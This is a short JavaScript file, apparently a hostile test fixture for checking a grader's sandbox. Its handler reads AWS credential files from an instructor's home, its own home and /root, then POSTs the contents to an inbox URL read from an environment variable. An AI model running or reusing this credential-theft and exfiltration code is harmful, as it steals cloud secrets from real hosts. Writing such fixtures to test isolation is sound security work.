'use strict';
// Hostile: steal the grader's AWS credentials from JavaScript, else fail.

const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');

// The instructor's home, this process's own, and the superuser's.
const TARGETS = [
  '@@HOME@@/.aws/credentials',
  path.join(os.homedir(), '.aws', 'credentials'),
  '/root/.aws/credentials',
];

exports.handler = async (event) => {
  for (const target of TARGETS) {
    let secret;
    try {
      secret = fs.readFileSync(target, 'utf8');
    } catch {
      continue;
    }
    await fetch(`${process.env.INBOX_URL}/code`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ stolen: secret }),
    });
    return { ...event, code: { stolen: secret } };
  }
  throw new Error('attack blocked: no credentials file could be read');
};
